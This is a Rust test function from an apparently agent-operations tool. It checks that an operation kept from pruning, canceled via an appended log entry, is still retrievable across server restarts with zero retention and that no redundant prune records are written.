fn an_operation_kept_from_prunes_does_not_have_a_prune_recorded_at_every_start() {
    anchor_outside_the_workspace();
    let env = Env::new(Some(POLICY));
    let mut ci = env.agent("ci-agent");
    let p = written(
        &mut ci,
        &json!({"path": "notes/a.txt"}),
        &json!({"content": "a\n"}),
        "pending-1",
    );
    assert_eq!(p["state"], "pending", "{p}");
    drop(ci);
    append_chained(
        env.root(),
        &[(
            "operation.transitioned",
            json!({"id": p["id"], "from": "pending", "to": "canceled", "revision": 2, "at_ms": 1})
                .to_string()
                .into_bytes(),
        )],
    );
    let before = prunes(env.root()).len();
    for _ in 0..2 {
        let mut ci = env.agent_env("ci-agent", &[("GAFFER_OPERATIONS_RETENTION_HOURS", "0")]);
        let got = ci.request("operations/get", json!({ "id": p["id"] }));
        assert_eq!(got["result"]["state"], "canceled", "kept: {got}");
        // The sweep runs as the server starts.
        std::thread::sleep(Duration::from_millis(1000));
    }
    assert_eq!(
        prunes(env.root()).len(),
        before,
        "a prune that forgets nothing"
    );
}
